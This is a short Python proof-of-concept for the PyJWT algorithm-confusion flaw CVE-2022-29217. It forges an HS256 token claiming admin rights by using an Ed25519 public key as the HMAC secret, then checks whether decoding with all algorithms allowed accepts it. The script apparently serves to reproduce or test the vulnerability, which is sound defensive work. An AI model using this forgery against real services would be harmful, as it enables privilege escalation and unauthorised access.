# CVE-2022-29217 (PYSEC-2022-202): with every algorithm allowed, an HMAC token keyed with the
# Ed25519 public key (OpenSSH format) verifies as if signed.
import hashlib, hmac, base64, json
import jwt
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives import serialization

public = Ed25519PrivateKey.generate().public_key().public_bytes(
    serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
)
def b64(data): return base64.urlsafe_b64encode(data).rstrip(b"=")
header, payload = b64(b'{"alg":"HS256","typ":"JWT"}'), b64(b'{"admin":true}')
signature = b64(hmac.new(public, header + b"." + payload, hashlib.sha256).digest())
token = (header + b"." + payload + b"." + signature).decode()
try:
    claims = jwt.decode(token, public, algorithms=jwt.algorithms.get_default_algorithms())
    print("FORGED" if claims.get("admin") else "rejected")
except Exception as exc:
    print("rejected", type(exc).__name__)
